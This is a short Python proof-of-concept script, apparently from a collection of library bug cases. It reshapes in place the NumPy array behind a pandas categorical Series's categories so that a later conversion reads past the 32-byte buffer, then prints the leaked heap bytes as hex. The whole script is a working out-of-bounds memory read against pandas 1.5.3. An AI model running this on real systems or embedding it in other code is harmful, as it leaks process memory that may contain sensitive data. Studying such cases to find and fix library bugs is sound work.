# source: pandas docs Index.to_numpy (copy=False returns the backing array); numpy ndarray.shape setter; pandas 1.5.3 take_nd without bounds checks
# family: in-place reshape of a pandas Index's backing array, through Series.cat.categories.to_numpy()
# goal: out-of-bounds heap read past the categories buffer of a categorical Series
import numpy as np
import pandas as pd

s = pd.Series([3.0, 0.0], dtype=pd.CategoricalDtype([0.0, 1.0, 2.0, 3.0]))
s.cat.categories.to_numpy().shape = (1, 4)
print("len(categories) now", len(s.cat.categories), flush=True)
out = s.to_numpy()
print("row for code 3 (only 4 floats = 32 bytes exist; anything but 0..3 came from past the buffer) ->", out[0].tolist(), out[0].tobytes().hex(), flush=True)
